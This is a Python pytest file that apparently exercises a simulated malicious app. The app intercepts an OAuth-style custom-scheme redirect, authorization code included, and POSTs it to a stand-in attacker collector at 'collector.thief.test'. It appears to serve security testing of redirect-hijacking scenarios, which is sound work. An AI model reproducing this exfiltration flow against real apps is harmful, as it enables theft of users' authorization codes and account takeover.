import base64
import json
import subprocess

import pytest

from attacker.redirect_handlers import malicious_app
from scenarios.stage.device import python
from tests.proxy import small_proxy

COLLECTOR = "http://collector.thief.test/catch"
REDIRECT = 'com.contoso.demo:/codeonly?code=a%2Bb&state="quoted"&iss=ä'


@pytest.mark.parametrize(("status", "end"), [(204, 0), (403, 1), (502, 1)])
def test_the_app_that_was_started_hands_the_redirect_to_the_collector(
    status: int, end: int
) -> None:
    with small_proxy() as proxy:
        proxy.status = status
        command = python(malicious_app.__file__, proxy.url, COLLECTOR, REDIRECT)
        ended = subprocess.run(command, timeout=20, check=False)

    (catch,) = proxy.heard
    assert ended.returncode == end
    assert (catch.method, catch.url) == ("POST", COLLECTOR)
    assert json.loads(catch.body) == {"url": REDIRECT}
    credentials = catch.headers["proxy-authorization"].removeprefix("Basic ")
    assert base64.b64decode(credentials) == b"honest-app.device:-"
